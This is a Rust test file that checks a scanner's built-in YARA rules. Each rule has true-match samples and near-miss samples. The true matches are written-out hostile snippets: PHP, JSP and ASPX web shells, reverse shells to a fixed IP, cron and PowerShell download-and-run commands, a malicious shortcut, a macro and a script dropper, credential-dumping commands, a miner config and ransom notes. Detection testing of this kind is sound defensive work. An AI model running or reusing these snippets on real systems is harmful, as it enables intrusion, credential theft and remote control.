//! The rules every installation has: each fires on what it is for, and keeps quiet about its neighbour.

use std::collections::BTreeSet;

use yara::Rules;

use crate::scan;

fn built_in() -> Rules {
    Rules::compile(&[yara::built_in()]).unwrap_or_else(|problems| panic!("{problems:?}"))
}

fn names(rules: &Rules, bytes: &[u8]) -> Vec<String> {
    scan(rules, bytes).matches.into_iter().map(|found| found.rule).collect()
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// A shortcut as far as the rule looks: header, then arguments in UTF-16.
fn lnk(arguments: &str) -> Vec<u8> {
    let mut bytes = vec![0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0];
    bytes.extend([0; 68]);
    bytes.extend(wide(arguments));
    bytes
}

fn ole(text: &str) -> Vec<u8> {
    let mut bytes = vec![0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
    bytes.extend(wide("_VBA_PROJECT"));
    bytes.extend(text.as_bytes());
    bytes
}

type Case = (&'static str, Vec<Vec<u8>>, Vec<Vec<u8>>);

/// Rule, what it is for, and its neighbours.
fn cases() -> Vec<Case> {
    let text = |texts: &[&str]| texts.iter().map(|one| one.as_bytes().to_vec()).collect::<Vec<_>>();
    let eicar = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR", "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].concat();
    let spoken = format!("The test file begins with {eicar}");
    vec![
        (
            "webshell_jsp_exec",
            text(&[
                "<%@ page import=\"java.io.*\" %><% Process p = Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
                "<%\nString[] c = {\"/bin/sh\", \"-c\", request.getHeader(\"x\")};\nnew ProcessBuilder(c).start(); %>",
            ]),
            text(&[
                "<%@ page %><h1>Hello <%= request.getParameter(\"name\") %></h1>",
                "class Backup { void run() { Runtime.getRuntime().exec(\"tar\"); } } // request.getParameter(x)",
            ]),
        ),
        (
            "webshell_jsp_class_loader",
            text(&["<%@page import=\"javax.crypto.*\"%><%!class U extends ClassLoader{Class g(byte[] b){return super.defineClass(b,0,b.length);}}%><%Cipher c=Cipher.getInstance(\"AES\");new U().g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine())));%>"]),
            text(&["<%@ page %><% ClassLoader l = Thread.currentThread().getContextClassLoader(); l.loadClass(request.getParameter(\"view\")); %>"]),
        ),
        (
            "webshell_php_eval_request",
            text(&["<?php @eval($_POST['pass']); ?>", "<?php system( $_GET[\"cmd\"] );", "<?php $_GET['f']($_POST['a']);"]),
            text(&["<?php echo htmlspecialchars($_POST['name']); system('uptime'); ?>", "eval($_POST['x']) is what a web shell does"]),
        ),
        (
            "webshell_php_packed",
            text(&["<?php eval(gzinflate(base64_decode('7b0HYBxJliUmL23Ke39K9UrX4HShCIBgEyTYkEAQ')));"]),
            text(&["<?php $image = base64_decode($row['image']); file_put_contents($f, gzinflate($z));"]),
        ),
        (
            "webshell_aspx",
            text(&[
                "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"x\"],\"unsafe\");%>",
                "<%@ Page Language=\"C#\" %><% var p = new System.Diagnostics.ProcessStartInfo(\"cmd.exe\", \"/c \" + Request.QueryString[\"c\"]); %>",
            ]),
            text(&["<%@ Page Language=\"C#\" %><p><%= Server.HtmlEncode(Request.QueryString[\"name\"]) %></p>"]),
        ),
        (
            "reverse_shell_script",
            text(&[
                "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n",
                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 443 >/tmp/f",
                "import socket,os\ns=socket.socket()\nos.dup2(s.fileno(),0)\n",
                "nc -e /bin/sh 203.0.113.9 53",
            ]),
            text(&[
                "#!/bin/bash\nif timeout 1 bash -c '</dev/tcp/db/5432'; then echo up; fi\nnc -z db 5432\n",
                "import socket\ns = socket.socket()\ns.connect(('db', 5432))\n",
            ]),
        ),
        (
            "cron_download_run",
            text(&["*/5 * * * * root curl -fsSL http://203.0.113.9/i.sh | bash\n", "SHELL=/bin/sh\n0 * * * * wget -q -O- http://a.example/x | sh\n"]),
            text(&["*/5 * * * * root curl -fsS https://hc.example/ping > /dev/null\n", "curl -fsSL https://get.example/install | sh\n"]),
        ),
        (
            "miner_configuration",
            text(&["{\"donate-level\": 1, \"pools\": [{\"algo\": \"rx/0\", \"url\": \"stratum+tcp://pool.example:3333\"}]}"]),
            text(&["Outbound traffic to stratum+tcp://pool.example:3333 is blocked by policy.", "{\"algo\": \"rs256\", \"donate-level\": 0}"]),
        ),
        (
            "ransom_note",
            text(&[
                "All your important files have been encrypted!\nTo decrypt your files buy our decryptor. Pay 1 BTC.",
                "\u{4f60}\u{7684}\u{6587}\u{4ef6}\u{5df2}\u{88ab}\u{52a0}\u{5bc6}\u{ff0c}\u{8bf7}\u{652f}\u{4ed8}\u{6bd4}\u{7279}\u{5e01}",
            ]),
            text(&["Your data is encrypted in transit and at rest.", "How to restore your files from a backup", "\u{6587}\u{4ef6}\u{5df2}\u{88ab}\u{52a0}\u{5bc6}\u{4fdd}\u{5b58}"]),
        ),
        (
            "powershell_download_cradle",
            vec![
                b"powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"".to_vec(),
                wide("iwr http://203.0.113.9/a.ps1 -UseBasicParsing | iex"),
                // The same cradle as -EncodedCommand has it.
                b"powershell -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAA".to_vec(),
            ],
            text(&["Invoke-WebRequest https://example.com/tool.msi -OutFile tool.msi", "$text = $client.DownloadString($url); Write-Host $text"]),
        ),
        (
            "lnk_runs_script",
            vec![
                lnk("..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -w hidden -enc SQBFAFgA"),
                lnk("C:\\Windows\\System32\\cmd.exe /c start /min mshta http://203.0.113.9/a.hta"),
            ],
            vec![lnk("C:\\Program Files\\Editor\\editor.exe report.txt"), wide("powershell.exe -w hidden -enc SQBFAFgA")],
        ),
        (
            "office_macro_autoexec",
            vec![ole("Sub Document_Open() CreateObject(\"WScript.Shell\").Run")],
            vec![ole("Sub Total() Range(\"A1\").Value = 1"), b"Sub Document_Open() CreateObject _VBA_PROJECT".to_vec()],
        ),
        (
            "script_dropper",
            text(&["var x=new ActiveXObject('MSXML2.XMLHTTP');var s=new ActiveXObject('ADODB.Stream');s.SaveToFile(p);new ActiveXObject('WScript.Shell').Run(p);"]),
            text(&["Set s = CreateObject(\"WScript.Shell\")\ns.Run \"notepad.exe\"\n"]),
        ),
        (
            "credential_dumper",
            text(&["privilege::debug\nsekurlsa::logonpasswords\n", "rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full"]),
            text(&["Event 10: alert on sekurlsa:: in a command line", "comsvcs.dll is part of COM+"]),
        ),
        ("eicar_test_file", vec![eicar.into_bytes()], vec![spoken.into_bytes()]),
    ]
}

#[test]
fn each_built_in_rule_fires_on_what_it_is_for_and_not_beside_it() {
    let rules = built_in();
    let cases = cases();
    let (mut fired, mut quiet) = (0, 0);
    for (rule, trues, misses) in &cases {
        for bytes in trues {
            let found = names(&rules, bytes);
            assert!(
                found.iter().any(|found| found == rule),
                "{rule} on {:?}: {found:?}",
                String::from_utf8_lossy(bytes)
            );
            fired += 1;
        }
        for bytes in misses {
            let found = names(&rules, bytes);
            assert!(found.is_empty(), "{rule} on {:?}: {found:?}", String::from_utf8_lossy(bytes));
            quiet += 1;
        }
    }
    println!("{} rules: {fired} true, {quiet} near misses", cases.len());
    let tested: BTreeSet<_> = cases.iter().map(|(rule, ..)| (*rule).to_owned()).collect();
    let there: BTreeSet<_> = rules.list().into_iter().map(|rule| rule.name).collect();
    assert_eq!(tested, there);
}

#[test]
fn each_built_in_rule_says_what_a_match_means_in_both_languages() {
    for rule in built_in().list() {
        let meta = |name: &str| rule.meta.iter().find(|(key, _)| key == name).map(|(_, value)| value.clone());
        let said = [meta("description"), meta("description_zh"), meta("severity")];
        assert!(said.iter().all(Option::is_some), "{}: {said:?}", rule.name);
        assert!(!rule.tags.is_empty(), "{}", rule.name);
    }
}
